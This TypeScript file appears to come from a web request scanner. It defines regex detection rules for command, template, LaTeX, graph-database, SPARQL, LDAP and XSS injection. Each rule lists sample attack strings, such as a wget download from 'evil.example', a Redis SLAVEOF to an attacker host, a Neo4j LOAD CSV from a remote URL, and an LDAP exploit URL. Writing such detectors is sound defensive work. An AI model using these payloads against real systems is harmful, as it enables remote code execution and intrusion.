import { pattern, type Rule, type Span } from '../rule/rule.ts'
import { CHAR } from '../value/features.ts'
import type { Reading } from '../value/reading.ts'
import { WORD } from '../value/words.ts'

const LOADER_NAME =
  /^(?:ld_(?:preload|library_path|audit)|bash_env|perl5(?:opt|lib|db)|python(?:startup|path|inspect|warnings)|ruby(?:opt|lib)|node_options|gconv_path|java_tool_options|_java_options|phprc|php_ini_scan_dir|php_(?:admin_)?value|git_(?:ssh|proxy)_command|dyld_insert_libraries)$/

/**
 * What the loader of programs, a shell or an interpreter reads before it runs anything, as the name of a
 * parameter of a query or a form: servers of old make variables of its environment of them.
 */
function findLoaderName(reading: Reading): Span | undefined {
  const { lower } = reading
  // Of a form, the name stands under itself; documents do name such variables.
  return LOADER_NAME.test(lower) && reading.name === lower ? { start: 0, end: lower.length } : undefined
}

/** Code for programs that take a value for a text of a language of their own: plots, pages, settings. */
export const embeddedCodeRules: readonly Rule[] = [
  // A call of a shell with a command that an intruder runs, wherever it stands.
  pattern(
    'code/inner-call',
    /(?:^|[^\w.>$])(?:system|popen|shell_exec|passthru|exec)\s?\(\s?["'](?:id|whoami|uname|pwd|ifconfig|ipconfig|touch \/|cat \/|ls [-/]|curl |wget |nc |ping |sleep \d|bash |sh -|\/bin\/|echo [^"'\n]{0,60}[|>])[^"'\n]{0,200}["']\s?\)/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.paren,
      words: WORD.call,
      attacks: ["[33:system('touch /tmp/poc.txt')]", 'x + exec("id") + y'],
      benign: ["system('pause')", 'regex.exec("id")', "exec('SELECT 1')", 'see system(id)'],
    },
  ),
  // Conditions of templates in Chinese content systems, which PHP evaluates.
  pattern('template/condition', /\{if(?:-\w{1,4})?:[^{}\n]{0,120}?(?:\w\s?\(|`|\$_)[^{}\n]{0,120}\}/, {
    score: 5,
    quotable: true,
    chars: CHAR.brace,
    attacks: ['{if-A:print(md5(1))}{endif-A}', '{if:=`id`}{end if}', '{if:eval($_POST[1])}1{end if}'],
    benign: ['{if:user}', '{if $x}', 'if (a) {', '{if: a, then: b}'],
  }),
  // Apache Commons Jelly.
  pattern(
    'template/jelly',
    /<j:(?:jelly|invoke\w{0,8}|new|getstatic)\b|<\w{1,8}:evaluate\b|\bxmlns:\w{1,8}\s{0,2}=\s{0,2}["']?(?:jelly|glide)\b/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.less | CHAR.equals,
      attacks: ['<j:jelly xmlns:j="jelly" xmlns:g="glide">', '<g:evaluate>gs.x(1)</g:evaluate>'],
      benign: ['<j:job>', '<evaluate>', 'jelly'],
    },
  ),
  // Words around the output of a command, for a program that looks for it.
  pattern(
    'rce/framed',
    /^[\w.:-]{0,40}(?:[|;&\n]{1,2}\s{0,2})?echo\b[^|;&\n]{0,40}[|;&\n]{1,2}\s{0,2}(?:id|uname|whoami|cat \/|ls -|pwd)\b[^|;&\n]{0,40}(?:[|;&\n]|$)/,
    {
      score: 5,
      quotable: true,
      atStart: true,
      chars: CHAR.semicolon | CHAR.pipe | CHAR.ampersand | CHAR.newline,
      words: WORD.shell,
      attacks: ['|echo;echo YYY;id;echo YYY;echo|'.replace('echo;', ''), '|echo;id;echo', 'echo x && whoami'],
      benign: ['echo; a name', 'echo a; b'],
    },
  ),
  {
    id: 'probe/loader-name',
    family: 'probe',
    score: 5,
    quotable: false,
    chars: 0,
    words: WORD.probe,
    places: ['name'],
    find: findLoaderName,
    // By where the name stands: the cases are in `test/exploits.test.ts`.
    attacks: [],
    benign: ['PATH', 'preload', 'LANG'],
  },
  // Behind the one word that was asked for, a line of a shell.
  pattern(
    'rce/next-line',
    /^[\w.:-]{0,40}[\r\n]{1,4}\s{0,4}(?:cat|ls|wget|curl|nc|ping|touch|rm|chmod|bash|sh|telnetd|uname|tftp|busybox)\s{1,4}(?:[/~-]|https?:|\d{1,3}\.)[^\r\n]{0,200}$/,
    {
      score: 5,
      quotable: true,
      atStart: true,
      chars: CHAR.newline,
      words: WORD.shell,
      places: ['path', 'query', 'form', 'cookie'],
      unlessNamed: /text|note|comment|message|content|body|code|script|snippet|steps?$/,
      attacks: ['\ncat /x', '127.0.0.1\nwget http://evil.example/x', 'x\r\nping -c 1 192.0.2.1'],
      benign: ['shopping:\ncat food', 'one two\nls -la\nthree', 'a\nping pong'],
    },
  ),
  // A file of the server as a part of a query to a program of its own.
  pattern('traversal/inner-file-url', /[=\s"'(,]file:\/{1,3}(?:etc|proc|root|home|windows|winnt|c:)\//, {
    score: 5,
    quotable: true,
    chars: CHAR.slash,
    words: WORD.file,
    places: ['query', 'form', 'cookie', 'header'],
    attacks: ['a=b URLPARAMETER="file:///etc/"', "import 'file:///proc/self/environ'"],
    benign: ['file:///etc/x', 'see profile:///etc/'],
  }),
  // Handlebars and Go: helpers and methods by which a page reaches what runs it.
  pattern(
    'template/reach',
    /\{\{#with\s{1,4}["'][^"'{}]{0,24}["']\s{1,4}as\s{1,4}\||\{\{\s{0,4}\.(?:system|exec|run|cmd|shell|command|readfile)\w{0,12}\s{1,4}["'`]/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.brace,
      attacks: ['{{#with "s" as |string|}}', '{{.System "id"}}'],
      benign: ['{{#with person as |p|}}', '{{.Name}}', '{{ .Run }}'],
    },
  ),
  // Programs started, attributes reached by their names, properties read: .NET, Python, Deno, Bun, Java.
  pattern(
    'code/started-program',
    /\bprocess\.start\s{0,2}\(\s{0,2}["'@$]|\bsystem\.diagnostics\.process\b|\bdeno\.(?:run|command)\s{0,2}\(\s{0,2}[{"'`]|\bbun\.spawn(?:sync)?\s{0,2}\(|\bgetattr\s{0,2}\(\s{0,2}(?:os|sys|subprocess|__?builtins__?|builtins)\s{0,2},|\bsystem\.get(?:property|env)\s{0,2}\(\s{0,2}["')]/,
    {
      score: 5,
      quotable: true,
      words: WORD.process | WORD.runtime,
      attacks: [
        '@{System.Diagnostics.Process.Start("cmd")}',
        'Process.Start("cmd.exe")',
        'Deno.run({cmd:["id"]})',
        'Bun.spawnSync(["id"])',
        'getattr(os,"system")("id")',
        'System.getProperty("user.dir")',
      ],
      benign: ['the process (start here)', 'getattr(obj, "name")', 'Bun.serve()', 'system.property'],
    },
  ),
  // What LaTeX hands to a shell, and the files that it writes.
  pattern(
    'rce/latex',
    /\\(?:immediate\s{0,2}\\)?write18\s{0,2}\{|\{\s{0,2}\\write18\s{0,2}\}|\\input\s{0,2}\{?\s{0,2}\||\\openout\s{0,2}(?:\\[a-z@]{1,24}|\d{1,2})\s{0,2}=/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.backslash,
      attacks: [
        '\\immediate\\write18{id}',
        '\\url{\\write18}',
        '\\input|id',
        '\\openout\\f=x.tex',
        '\\immediate\\openout5=a',
      ],
      benign: ['\\write{x}', '\\input{chapter1}', '\\openout\\f'],
    },
  ),
  // Neo4j and Redis: what reaches beyond the data.
  pattern(
    'nosqli/graph',
    /['"][\s)}\]]{0,8}(?:detach\s{1,4}delete\b|(?:return\s[^\n]{0,40})?union\s{1,4}(?:all\s{1,4})?(?:match|call)\b|with\s{1,4}\d{1,4}\s{1,4}as\s{1,4}\w|match\s{0,4}\([^()\n]{0,60}\)\s{0,4}(?:set|detach|delete|return)\b)|\bload\s{1,4}csv\s{1,4}(?:with\s{1,4}headers\s{1,4})?from\s{1,4}["'](?:https?|ftp|file):|^[^\n]{0,40}["')]\s{0,4}(?:return\s[^\n]{0,40})?\bcall\s{1,4}(?:apoc|dbms|db)\.\w|^\s{0,2}(?:slaveof|replicaof)\s{1,4}[\w.-]{1,64}\s{1,4}\d{2,5}\s{0,2}$|^\s{0,2}config\s{1,4}set\s{1,4}(?:dir|dbfilename)\s{1,4}\S/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.space,
      words: WORD.sqlVerb | WORD.shell | WORD.sqlServer,
      attacks: [
        'LOAD CSV FROM "http://evil.example" AS x RETURN x',
        "' CALL apoc.load.json('http://x') YIELD value RETURN 1//",
        'SLAVEOF evil.example 6379',
        'CONFIG SET dir /var/www/html',
        "' DETACH DELETE n //",
        "') RETURN n UNION MATCH (n) RETURN n //",
      ],
      benign: [
        'MATCH (n) RETURN n',
        "$('#a').next()",
        "df['a'].drop()",
        'load csv from disk',
        'call db (now)',
        'config set theme dark',
      ],
    },
  ),
  // SPARQL: a pattern behind a string that the value has left, and a comment behind it.
  pattern(
    'nosqli/triples',
    /["'>][\s).};]{0,8}(?:union\s{0,4}\{|service\s{1,4}<|\?[a-z]\w{0,12}\s{1,4}\?[a-z]\w{0,12})[^\n]{0,200}\}\s{0,4}#/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.hash,
      attacks: ['" } UNION { ?s ?p ?o } #', '" . SERVICE <http://evil.example/> { ?s ?p ?o } } #'],
      benign: ['{ ?s ?p ?o } UNION { ?a ?b ?c }', '"a" } # { ?s ?p ?o }'],
    },
  ),
  // A part of a variable of Windows, in place of a letter that a filter refuses.
  pattern('rce/windows-cut', /%[a-z]\w{1,23}:~-?\d{1,3}(?:,-?\d{1,3})?%/, {
    score: 5,
    quotable: true,
    chars: CHAR.percent,
    attacks: ['%PROGRAMFILES:~10,-5%', 'a%PATH:~0,1%b'],
    benign: ['100%: ~5%', '%PATH%', '%a:b%'],
  }),
  // RFC 4516 section 2: behind the host stands the name of an entry, which has an equals sign.
  pattern('ssrf/directory-object', /\bldaps?:\/\/[^\s/?#"'<>]{1,120}\/[^\s=?#,"'<>]{1,60}(?=["'\s}>]|$)/, {
    score: 5,
    quotable: true,
    chars: CHAR.scheme,
    words: WORD.host,
    attacks: ['ldap://evil.example:1389/Exploit', '"ldap://a.example/Basic/Command/x"'],
    benign: ['ldap://dc.example:389', 'ldaps://dc.example/dc=example,dc=com', 'ldap://dc.example/'],
  }),
  // The text of an element ended that ends for nothing else, and another one begun.
  pattern(
    'xss/element-end',
    /^[^<>\n]{0,40}<\/(?:title|textarea|style|script|noscript|iframe|xmp)\s{0,4}>\s{0,8}<[a-z!/]/,
    {
      score: 5,
      quotable: true,
      atStart: true,
      chars: CHAR.less,
      words: WORD.markup,
      attacks: ['</title><script>', 'x</textarea><img'],
      benign: ['<title>x</title><p>', '</p><p>', 'close </title> and open <p>'],
    },
  ),
  // Programs and libraries that are taken from where everybody may write.
  pattern(
    'code/loaded-folder',
    /<(?:lib|library|classpath|extension|plugin|module|loader)\b[^<>]{0,120}?\b(?:dir|path|location|href|src|file)\s{0,2}=\s{0,2}\\?["']\/?(?:var\/|private\/)?(?:tmp|dev\/shm)\b/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.less,
      attacks: [
        '<config><lib dir="/tmp"/></config>',
        "<plugin path='/var/tmp/x.so'>",
        '<lib dir=\\"/tmp\\"/>',
      ],
      benign: ['<lib dir="lib/"/>', '<file path="/tmp/x"/>', '<lib dir="/tmpl"/>'],
    },
  ),
]
